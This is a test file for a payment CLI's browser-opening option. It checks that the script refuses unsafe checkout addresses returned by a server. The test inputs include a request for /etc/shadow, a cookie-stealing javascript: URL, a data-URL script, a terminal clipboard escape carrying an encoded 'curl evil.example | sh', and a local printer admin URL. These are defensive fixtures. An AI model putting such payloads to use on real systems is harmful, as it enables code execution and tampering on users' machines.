// `node index.mjs N --open` against a server whose checkout answers an address no browser should
// be given: the system's opener is never started. $BROWSER, where xdg-open hands every address on
// a machine without a desktop, only writes down what it was given.
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { checkoutPage, startDriftingMock } from '@profile-articles/test-utils/drifting-mock';
import { fakeBrowser } from '@profile-articles/test-utils/fake-browser';
import { afterEach, describe, expect, it } from 'vitest';

const script = fileURLToPath(new URL('./index.mjs', import.meta.url));
// A run that did open waits for a payment that never comes: stopped after its test.
const started: Array<() => void> = [];
afterEach(() => {
  for (const stop of started.splice(0)) stop();
});

/**
 * `remote`: reach the mock as [::ffff:127.0.0.1], this machine but not a loopback host as the
 * script reads it, standing in for a server on another computer.
 */
async function buyAgainst(
  page: string,
  browserEnv: Record<string, string | undefined>,
  { remote = false } = {},
) {
  // The mock, but its checkout answers `page` as the payment page.
  const mock = await startDriftingMock(checkoutPage(page));
  const baseUrl = remote ? mock.url.replace('//127.0.0.1:', '//[::ffff:127.0.0.1]:') : mock.url;
  const child = spawn(process.execPath, [script, '500', '--open'], {
    env: {
      ...process.env,
      ...browserEnv,
      PROFILE_ARTICLES_API_KEY: 'demo-key',
      PROFILE_ARTICLES_BASE_URL: baseUrl,
      CHECK_EVERY_MS: '50',
    },
  });
  let stderr = '';
  const waiting: Array<() => void> = [];
  child.stderr.on('data', (chunk) => {
    stderr += chunk;
    for (const check of waiting) check();
  });
  /** Resolves once stderr holds `text` (the run goes on, waiting for a payment). */
  const stderrHas = (text: string) =>
    new Promise<void>((resolve) => {
      const check = () => stderr.includes(text) && resolve();
      waiting.push(check);
      check();
    });
  const exit = new Promise<number | null>((resolve) => child.on('close', resolve));
  exit.finally(() => mock.close());
  const stop = () => {
    if (child.exitCode === null) child.kill();
  };
  started.push(stop);
  return { exit, stderr: () => stderr, stderrHas, stop };
}

describe.skipIf(process.platform !== 'linux')('--open', () => {
  it('gives an https page to the browser', async () => {
    const browser = fakeBrowser();
    const run = await buyAgainst('https://pay.example/checkout/cs_1', browser.env);
    expect(await browser.firstCall()).toBe('https://pay.example/checkout/cs_1');
    run.stop(); // it would wait for a payment that never comes
    await run.exit;
  });

  for (const page of [
    'file:///etc/shadow',
    'javascript:alert(document.cookie)',
    'data:text/html,<script>alert(1)</script>',
    'http://pay.evil.example/checkout',
    'https://pay.example/\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  ]) {
    it(`never opens ${JSON.stringify(page)}: one line on stderr, exit 1`, async () => {
      const browser = fakeBrowser();
      const run = await buyAgainst(page, browser.env);
      expect(await run.exit).toBe(1);
      expect(browser.calls()).toEqual([]);
      const lines = run.stderr().split('\n').filter(Boolean);
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^Refused to open ".*": only https pages/);
      expect(run.stderr().slice(0, -1)).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    });
  }

  // Attack trial (on the CLI, same rule): a remote server named the local printer service's admin page.
  it('never opens plain http on this machine named by a server on another one', async () => {
    const browser = fakeBrowser();
    const run = await buyAgainst('http://127.0.0.1:631/admin/?OP=add-printer', browser.env, {
      remote: true,
    });
    // Whichever comes first: a run that opened would wait for a payment instead of exiting.
    const first = await Promise.race([
      run.exit.then((code) => ({ exit: code })),
      browser.firstCall().then((opened) => ({ opened })),
    ]);
    expect(first).toEqual({ exit: 1 });
    expect(browser.calls()).toEqual([]);
    // After the SDK's warning that the key goes in the clear to another machine.
    expect(run.stderr()).toMatch(/^Refused to open "http:\/\/127\.0\.0\.1:631\/admin\/\?OP=add-printer": /m);
  });

  // Newcomer trial (issue 26): with no browser to be found, it said nothing and waited.
  it('says so when no browser can be opened, and goes on waiting for the payment', async () => {
    // $BROWSER a command that fails: xdg-open, with no desktop, then reports failure.
    const run = await buyAgainst('https://pay.example/checkout/cs_1', {
      ...fakeBrowser().env,
      BROWSER: 'false',
    });
    await run.stderrHas('Could not open a browser: open the address above yourself.');
    run.stop();
    await run.exit;
  });

  it('opens plain http on this machine when the server is on it too (the mock)', async () => {
    const browser = fakeBrowser();
    const run = await buyAgainst('http://127.0.0.1:4010/_mock/checkout/cs_1', browser.env);
    expect(await browser.firstCall()).toBe('http://127.0.0.1:4010/_mock/checkout/cs_1');
    run.stop();
    await run.exit;
  });
});
